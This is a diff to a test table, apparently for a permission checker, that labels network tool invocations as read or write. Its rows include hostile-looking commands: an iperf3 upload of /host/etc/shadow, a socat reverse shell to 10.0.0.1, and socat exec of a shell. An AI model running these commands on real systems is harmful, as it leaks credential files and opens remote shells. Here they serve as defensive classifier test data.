@@ -1,4 +1,4 @@
-/** Sockets, and what talks to hosts. How a row reads: `test/tools/table.ts`. */
+/** Sockets, and tools that connect to hosts. Format of a row: `test/tools/table.ts`. */
 export const sockets = `
 read | ss -tlnp
 read | ss -s
@@ -12,7 +12,7 @@ write: ss -D | ss -D /host/x
 write: ss -D | ss --diag=/host/x
 read: ss -F | ss -F /host/x
 read: ss -N | ss -N other -t
-write | ss --frobnicate
+write: ss --frobnicate | ss --frobnicate
 read | netstat -tlnp
 read | netstat -rn
 read | netstat -s
@@ -26,7 +26,7 @@ read | lsof +L1
 read: lsof -r | lsof -r 2
 write: lsof -D | lsof -D b
 write | lsof +D /host
-write | lsof --frobnicate
+write: lsof --frobnicate | lsof --frobnicate
 read | ps aux
 read | ps -eo pid,args
 read | ps -ef --forest
@@ -55,7 +55,7 @@ write | conntrack -L -z
 write | conntrack -Lz
 write | conntrack -L -D
 write | conntrack
-write | conntrack --frobnicate
+write: conntrack --frobnicate | conntrack --frobnicate
 write: conntrack --load-file | conntrack -R /host/x
 write: conntrack --load-file | conntrack --load-file /host/x
 read | traceroute 10.0.0.1
@@ -98,21 +98,21 @@ read: nmap RANGE | nmap 10.0.0.0/24
 read: nmap RANGE | nmap 10.0.0.1-20
 read: nmap RANGE | nmap 10.0.0.1 10.0.0.2
 read: nmap RANGE | nmap '10.0.0.*'
-write | nmap --frobnicate 10.0.0.1
+write: nmap --frobnicate | nmap --frobnicate 10.0.0.1
 read | iperf3 -c 10.0.0.1
 read | iperf3 -c 10.0.0.1 -u -b 10M -t 5
 read: iperf3 -s | iperf3 -s
 read: iperf3 -s, iperf3 -D | iperf3 -s -D
 write: iperf3 --logfile | iperf3 -c x --logfile /host/x
 write: iperf3 -I | iperf3 -c x -I /host/x
-read: iperf3 -F | iperf3 -c x -F /host/etc/shadow
-write | iperf3 --frobnicate
+read: iperf3 -F, upload | iperf3 -c x -F /host/etc/shadow
+write: iperf3 --frobnicate | iperf3 --frobnicate
 read | socat - TCP:10.0.0.1:80
 read | socat -u TCP4:10.0.0.1:22,connect-timeout=3 STDOUT
 read | socat - UDP:10.0.0.1:53
 read | socat - OPENSSL:10.0.0.1:443,verify=0
 write: socat EXEC | socat - EXEC:sh
-write: socat EXEC | socat TCP:10.0.0.1:1 exec:'sh'
+write: socat EXEC, upload | socat TCP:10.0.0.1:1 exec:'sh'
 write: socat SYSTEM | socat - SYSTEM:id
 write: socat OPEN | socat - OPEN:/host/x,creat
 write: socat CREATE | socat - CREATE:/host/x
